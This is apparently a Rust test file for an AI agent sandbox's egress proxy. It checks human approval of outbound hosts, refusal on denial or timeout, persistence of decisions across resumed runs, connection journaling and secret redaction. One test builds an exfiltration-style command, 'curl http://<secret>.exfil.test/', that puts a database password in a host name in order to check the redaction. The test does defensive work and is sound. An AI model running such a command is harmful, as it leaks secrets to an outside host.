//! The worker's egress approver and recorder ([`RunEgress`]) behind a real
//! `toren_egress::Proxy` on a unix socket, with a real SQLite log: a host outside the list
//! holds the connection and records a request naming the running call; a decision from
//! another store handle (another process's `toren approve`) lets it through, a denial
//! refuses it; a fresh approver on the same log (a resumed run) does not ask again; a
//! connection nobody answers in time is refused, the request stays answerable; every
//! connection is journaled with its bytes.

use std::collections::HashMap;
use std::sync::Arc;
use std::time::Duration;

use pretty_assertions::assert_eq;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, UnixListener, UnixStream};
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;
use toren_egress::{Proxy, ProxyConfig, Resolver};
use toren_protocol::{
    AgentSpec, ApprovalDecided, AssistantMessage, ConnectionOutcome, EgressConnection,
    EgressPolicy, EventKind, HostApprovalRequested, ModelResponded, RunCreated, RunId, RunStatus,
    ToolCall, ToolStarted, Usage,
};
use toren_store::{EventLog, Lease, SqliteStore};
use toren_worker::RunEgress;

const TTL: Duration = Duration::from_secs(60);
const REQUEST: &[u8] = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n";
const REPLY: &[u8] = b"HTTP/1.1 200 OK\r\ncontent-length: 5\r\n\r\nhello";

/// Tells the test each host request the approver announced.
struct Announced(mpsc::UnboundedSender<HostApprovalRequested>);

impl toren_worker::Observer for Announced {
    fn awaiting_host_approval(&self, _run: &RunId, request: &HostApprovalRequested) {
        let _ = self.0.send(request.clone());
    }
}

struct Names(HashMap<String, std::net::SocketAddr>);

#[async_trait::async_trait]
impl Resolver for Names {
    async fn resolve(&self, host: &str, _port: u16) -> std::io::Result<Vec<std::net::SocketAddr>> {
        Ok(self.0.get(host).into_iter().copied().collect())
    }
}

/// An origin that answers one request per connection with `hello`, then closes.
async fn origin() -> std::net::SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut buf = [0u8; 1024];
                let _ = stream.read(&mut buf).await;
                let _ = stream.write_all(REPLY).await;
            });
        }
    });
    address
}

fn created() -> RunCreated {
    RunCreated {
        agent: AgentSpec {
            budget: None,
            name: "t".into(),
            model: "scripted/s.yaml".into(),
            instructions: None,
            sandbox: None,
            max_turns: 5,
            context_tokens: None,
            source: None,
        },
        policy: None,
        input: "install it".into(),
        session: None,
        channel: None,
        start: None,
    }
}

/// A run whose bash call `c1` runs, held by the returned lease.
async fn running(store: &SqliteStore) -> Lease {
    let run = RunId::new();
    let (_, lease) = store
        .create_run(&run, created(), "test/1", TTL)
        .await
        .unwrap();
    let responded = EventKind::ModelResponded(ModelResponded {
        message: AssistantMessage {
            text: String::new(),
            tool_calls: vec![ToolCall {
                id: "c1".into(),
                name: "bash".into(),
                arguments: serde_json::json!({"command": "pip install x"}),
                wire_id: None,
            }],
        },
        stop_reason: "tool_use".into(),
        usage: Usage::default(),
        model: "m".into(),
    });
    let started = EventKind::ToolStarted(ToolStarted {
        call_id: "c1".into(),
        tool: "bash".into(),
        attempt: 1,
        checkpoint: None,
    });
    store
        .append(&lease, 1, vec![responded, started])
        .await
        .unwrap();
    lease
}

/// A proxy asking `egress` about every host, on a unix socket in `dir`.
fn proxy(
    dir: &std::path::Path,
    name: &str,
    egress: &RunEgress,
    origin: std::net::SocketAddr,
) -> (std::path::PathBuf, tokio_util::sync::DropGuard) {
    let names = [
        "pypi.test",
        "evil.test",
        "slow.test",
        "hunter2secretvalue.exfil.test",
    ]
    .map(|n| (n.to_owned(), origin))
    .into();
    let proxy = Proxy::new(ProxyConfig {
        policy: EgressPolicy {
            allow: vec![],
            ask: true,
            ..EgressPolicy::default()
        },
        resolver: Arc::new(Names(names)),
        approver: Arc::new(egress.clone()),
        recorder: Arc::new(egress.clone()),
        permit: vec![origin],
    });
    let socket = dir.join(name);
    let listener = UnixListener::bind(&socket).unwrap();
    let stop = CancellationToken::new();
    let token = stop.clone();
    tokio::spawn(async move { proxy.serve_unix(listener, token).await });
    (socket, stop.drop_guard())
}

/// `CONNECT host:port` through the proxy; the response head, and what a request through
/// the tunnel got back when it was opened.
async fn connect(socket: &std::path::Path, target: &str) -> (String, String) {
    let mut stream = UnixStream::connect(socket).await.unwrap();
    stream
        .write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes())
        .await
        .unwrap();
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        if stream.read(&mut byte).await.unwrap() == 0 {
            break;
        }
        head.push(byte[0]);
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    if !head.starts_with("HTTP/1.1 200") {
        // The refusal's body (the connection stays open after it).
        let length: usize = head
            .lines()
            .find_map(|l| {
                let l = l.to_ascii_lowercase();
                l.strip_prefix("content-length:")
                    .map(|v| v.trim().parse().unwrap())
            })
            .unwrap();
        let mut body = vec![0u8; length];
        stream.read_exact(&mut body).await.unwrap();
        return (head, String::from_utf8(body).unwrap());
    }
    stream.write_all(REQUEST).await.unwrap();
    let mut reply = String::new();
    let _ = stream.read_to_string(&mut reply).await;
    (head, reply)
}

fn decision(host: &str, approved: bool) -> ApprovalDecided {
    ApprovalDecided {
        call_id: format!("host:{host}"),
        approved,
        by: "ana".into(),
        via: "cli".into(),
        reason: None,
    }
}

async fn kinds(store: &SqliteStore, run: &RunId) -> Vec<EventKind> {
    let events = store.read(run, 0).await.unwrap();
    events.into_iter().map(|e| e.kind).collect()
}

/// Every connection journaled so far (after a flush), in order.
async fn journaled(store: &SqliteStore, run: &RunId, egress: &RunEgress) -> Vec<EgressConnection> {
    egress.flush().await;
    kinds(store, run)
        .await
        .into_iter()
        .filter_map(|k| match k {
            EventKind::EgressConnections(c) => Some(c.connections),
            _ => None,
        })
        .flatten()
        .collect()
}

/// Waits until `count` connections have closed and been recorded (a tunnel's close
/// comes just after its last byte).
async fn closed(store: &SqliteStore, run: &RunId, egress: &RunEgress, count: usize) {
    for _ in 0..500 {
        if journaled(store, run, egress).await.len() >= count {
            return;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    panic!("{count} connections were never journaled");
}

#[tokio::test]
async fn a_host_is_asked_about_decided_elsewhere_and_kept_on_resume() {
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}", dir.path().join("toren.db").display());
    let store = SqliteStore::open(&url).await.unwrap();
    // Another process deciding: its own handle on the same database.
    let elsewhere = SqliteStore::open(&url).await.unwrap();
    let lease = running(&store).await;
    let run = lease.run_id.clone();
    let origin = origin().await;
    let (tx, mut announced) = mpsc::unbounded_channel();
    let egress = RunEgress::new(
        Arc::new(store.clone()),
        lease.clone(),
        Arc::new(Announced(tx.clone())),
        None,
        toren_redact::Redactor::default(),
        Duration::from_secs(60),
        Duration::from_millis(10),
    );
    egress.set_call(Some(("c1".into(), "pip install x".into())));
    let (socket, _proxy) = proxy(dir.path(), "a.sock", &egress, origin);
    let pypi = format!("pypi.test:{}", origin.port());

    // Held until decided: the request names the host and the running call.
    let held = tokio::spawn({
        let (socket, pypi) = (socket.clone(), pypi.clone());
        async move { connect(&socket, &pypi).await }
    });
    let request = announced.recv().await.unwrap();
    assert_eq!(
        request,
        HostApprovalRequested::new(
            "pypi.test",
            origin.port(),
            Some(("c1".into(), "pip install x".into()))
        )
    );
    assert!(!held.is_finished(), "the connection waits for the decision");
    assert_eq!(
        store.run(&run).await.unwrap().status,
        RunStatus::AwaitingApproval
    );
    elsewhere
        .decide_approval(&run, decision("pypi.test", true))
        .await
        .unwrap();
    let (head, reply) = held.await.unwrap();
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    assert!(reply.ends_with("hello"), "{reply}");
    assert_eq!(store.run(&run).await.unwrap().status, RunStatus::Running);

    // Denied from elsewhere: refused, and the refusal says so.
    let evil = format!("evil.test:{}", origin.port());
    let held = tokio::spawn({
        let (socket, evil) = (socket.clone(), evil.clone());
        async move { connect(&socket, &evil).await }
    });
    assert_eq!(announced.recv().await.unwrap().host, "evil.test");
    elsewhere
        .decide_approval(&run, decision("evil.test", false))
        .await
        .unwrap();
    let (head, body) = held.await.unwrap();
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    assert!(body.contains("a human denied this host"), "{body}");

    // A resumed run (a new approver and proxy on the same log) keeps both decisions
    // without asking again.
    closed(&store, &run, &egress, 2).await;
    drop(_proxy);
    let resumed = RunEgress::new(
        Arc::new(store.clone()),
        lease.clone(),
        Arc::new(Announced(tx)),
        None,
        toren_redact::Redactor::default(),
        Duration::from_secs(60),
        Duration::from_millis(10),
    );
    let (socket, _proxy) = proxy(dir.path(), "b.sock", &resumed, origin);
    let (head, _) = connect(&socket, &pypi).await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let (head, _) = connect(&socket, &evil).await;
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    assert!(announced.try_recv().is_err(), "asked again after resume");
    let requests = kinds(&store, &run)
        .await
        .into_iter()
        .filter(|k| matches!(k, EventKind::HostApprovalRequested(_)))
        .count();
    assert_eq!(requests, 2);

    // Journaled: the approved tunnel with its bytes, the denial with its reason.
    closed(&store, &run, &resumed, 4).await;
    let journal = journaled(&store, &run, &resumed).await;
    // In the order they closed or were refused (a refusal may come before an earlier
    // tunnel's close): sorted.
    let mut summary: Vec<(String, ConnectionOutcome, bool, Option<String>)> = journal
        .iter()
        .map(|c| {
            (
                c.host.clone(),
                c.outcome,
                c.bytes_up > 0 && c.bytes_down > 0,
                c.call_id.clone(),
            )
        })
        .collect();
    summary.sort_by(|a, b| format!("{a:?}").cmp(&format!("{b:?}")));
    let c1 = Some("c1".to_owned());
    assert_eq!(
        summary,
        vec![
            ("evil.test".into(), ConnectionOutcome::Denied, false, None),
            (
                "evil.test".into(),
                ConnectionOutcome::Denied,
                false,
                c1.clone()
            ),
            ("pypi.test".into(), ConnectionOutcome::Approved, true, None),
            ("pypi.test".into(), ConnectionOutcome::Approved, true, c1),
        ]
    );
    let tunnel = journal.iter().find(|c| c.host == "pypi.test").unwrap();
    assert_eq!(
        (tunnel.bytes_up, tunnel.bytes_down),
        (REQUEST.len() as u64, REPLY.len() as u64),
        "the bytes each way, counted"
    );
}

#[tokio::test]
async fn a_connection_nobody_answers_in_time_is_refused_and_the_request_stays_open() {
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}", dir.path().join("toren.db").display());
    let store = SqliteStore::open(&url).await.unwrap();
    let lease = running(&store).await;
    let run = lease.run_id.clone();
    let origin = origin().await;
    let (tx, mut announced) = mpsc::unbounded_channel();
    // No time at all to answer.
    let egress = RunEgress::new(
        Arc::new(store.clone()),
        lease,
        Arc::new(Announced(tx)),
        None,
        toren_redact::Redactor::default(),
        Duration::ZERO,
        Duration::from_millis(10),
    );
    let (socket, _proxy) = proxy(dir.path(), "a.sock", &egress, origin);
    let slow = format!("slow.test:{}", origin.port());
    let (head, body) = connect(&socket, &slow).await;
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    assert!(
        body.contains(&format!(
            "nobody answered the request for network access to slow.test within 0s; it stays \
             open: approve it (toren approve {run} host:slow.test"
        )),
        "{body}"
    );
    assert_eq!(announced.recv().await.unwrap().host, "slow.test");
    // Still answerable; once approved, the next connection goes through without a second
    // request.
    store
        .decide_approval(&run, decision("slow.test", true))
        .await
        .unwrap();
    let (head, _) = connect(&socket, &slow).await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let journal = journaled(&store, &run, &egress).await;
    assert_eq!(journal[0].outcome, ConnectionOutcome::Unanswered);
    let requests = kinds(&store, &run)
        .await
        .into_iter()
        .filter(|k| matches!(k, EventKind::HostApprovalRequested(_)))
        .count();
    assert_eq!(requests, 1);
}

#[tokio::test]
async fn a_request_whose_call_ended_takes_no_decision_and_the_next_call_asks_again() {
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}", dir.path().join("toren.db").display());
    let store = SqliteStore::open(&url).await.unwrap();
    let lease = running(&store).await;
    let run = lease.run_id.clone();
    let origin = origin().await;
    let (tx, mut announced) = mpsc::unbounded_channel();
    // No time to answer while c1 runs.
    let egress = RunEgress::new(
        Arc::new(store.clone()),
        lease.clone(),
        Arc::new(Announced(tx)),
        None,
        toren_redact::Redactor::default(),
        Duration::ZERO,
        Duration::from_millis(10),
    );
    egress.set_call(Some(("c1".into(), "pip install x".into())));
    let (socket, _proxy) = proxy(dir.path(), "a.sock", &egress, origin);
    let slow = format!("slow.test:{}", origin.port());
    let (head, body) = connect(&socket, &slow).await;
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    assert!(body.contains("it stays open while call c1 runs"), "{body}");
    assert_eq!(
        announced.recv().await.unwrap().call_id.as_deref(),
        Some("c1")
    );

    // c1 ends (its command gave up); the model's next call c2 runs.
    egress.set_call(None);
    egress.flush().await;
    let seq = store.run(&run).await.unwrap().last_seq;
    let next = vec![
        EventKind::ToolCompleted(toren_protocol::ToolCompleted {
            call_id: "c1".into(),
            output: "connection refused".into(),
            is_error: true,
            exit_code: Some(1),
            truncated: false,
        }),
        EventKind::ModelResponded(ModelResponded {
            message: AssistantMessage {
                text: String::new(),
                tool_calls: vec![ToolCall {
                    id: "c2".into(),
                    name: "bash".into(),
                    arguments: serde_json::json!({"command": "pip install x"}),
                    wire_id: None,
                }],
            },
            stop_reason: "tool_use".into(),
            usage: Usage::default(),
            model: "m".into(),
        }),
        EventKind::ToolStarted(ToolStarted {
            call_id: "c2".into(),
            tool: "bash".into(),
            attempt: 1,
            checkpoint: None,
        }),
    ];
    store.append(&lease, seq, next).await.unwrap();

    // A decision on c1's request is refused and writes nothing.
    let before = store.run(&run).await.unwrap().last_seq;
    let late = store
        .decide_approval(&run, decision("slow.test", true))
        .await;
    assert!(
        matches!(&late, Err(toren_store::Error::CallEnded { call, .. }) if call == "c1"),
        "{late:?}"
    );
    assert_eq!(store.run(&run).await.unwrap().last_seq, before);

    // c2 reaches the host: a new request, naming c2, which a decision answers.
    let resumed = RunEgress::new(
        Arc::new(store.clone()),
        lease,
        Arc::new(Announced(mpsc::unbounded_channel().0)),
        None,
        toren_redact::Redactor::default(),
        Duration::from_secs(60),
        Duration::from_millis(10),
    );
    resumed.set_call(Some(("c2".into(), "pip install x".into())));
    let (socket, _proxy) = proxy(dir.path(), "b.sock", &resumed, origin);
    let held = tokio::spawn({
        let (socket, slow) = (socket.clone(), slow.clone());
        async move { connect(&socket, &slow).await }
    });
    let asked = loop {
        let requests: Vec<HostApprovalRequested> = kinds(&store, &run)
            .await
            .into_iter()
            .filter_map(|k| match k {
                EventKind::HostApprovalRequested(r) => Some(r),
                _ => None,
            })
            .collect();
        if requests.len() == 2 {
            break requests;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    };
    assert_eq!(asked[1].call_id.as_deref(), Some("c2"));
    store
        .decide_approval(&run, decision("slow.test", true))
        .await
        .unwrap();
    let (head, _) = held.await.unwrap();
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
}

#[tokio::test]
async fn a_granted_value_in_a_host_name_is_journaled_shown_and_decided_redacted() {
    // `curl http://$MY_DB_PASSWORD.exfil.test/`: the value is in the name the sandbox
    // asks for, so in the request, the terminal's prompt and the connection records.
    const VALUE: &str = "hunter2secretvalue";
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}", dir.path().join("toren.db").display());
    let store = SqliteStore::open(&url).await.unwrap();
    let lease = running(&store).await;
    let run = lease.run_id.clone();
    let origin = origin().await;
    let (tx, mut announced) = mpsc::unbounded_channel();
    let egress = RunEgress::new(
        Arc::new(store.clone()),
        lease,
        Arc::new(Announced(tx)),
        None,
        toren_redact::Redactor::new([("MY_DB_PASSWORD", VALUE)]),
        Duration::from_secs(60),
        Duration::from_millis(10),
    );
    let command = format!("curl http://{VALUE}.exfil.test/");
    egress.set_call(Some(("c1".into(), command)));
    let (socket, _proxy) = proxy(dir.path(), "a.sock", &egress, origin);
    let target = format!("{VALUE}.exfil.test:{}", origin.port());
    let held = tokio::spawn({
        let socket = socket.clone();
        async move { connect(&socket, &target).await }
    });

    let shown = announced.recv().await.unwrap();
    let host = "[redacted:my_db_password].exfil.test";
    assert_eq!(shown.host, host);
    assert_eq!(shown.id, format!("host:{host}"));
    assert_eq!(
        shown.command.as_deref(),
        Some("curl http://[redacted:MY_DB_PASSWORD].exfil.test/")
    );
    // Decided by the id every front door shows.
    let decided = ApprovalDecided {
        call_id: shown.id.clone(),
        approved: true,
        by: "ana".into(),
        via: "cli".into(),
        reason: None,
    };
    store.decide_approval(&run, decided).await.unwrap();
    let (head, _) = held.await.unwrap();
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");

    closed(&store, &run, &egress, 1).await;
    let journal = journaled(&store, &run, &egress).await;
    assert_eq!(journal[0].host, host);
    assert_eq!(journal[0].outcome, ConnectionOutcome::Approved);
    let everything = serde_json::to_string(&store.read(&run, 0).await.unwrap()).unwrap();
    assert!(!everything.contains(VALUE), "{everything}");
}
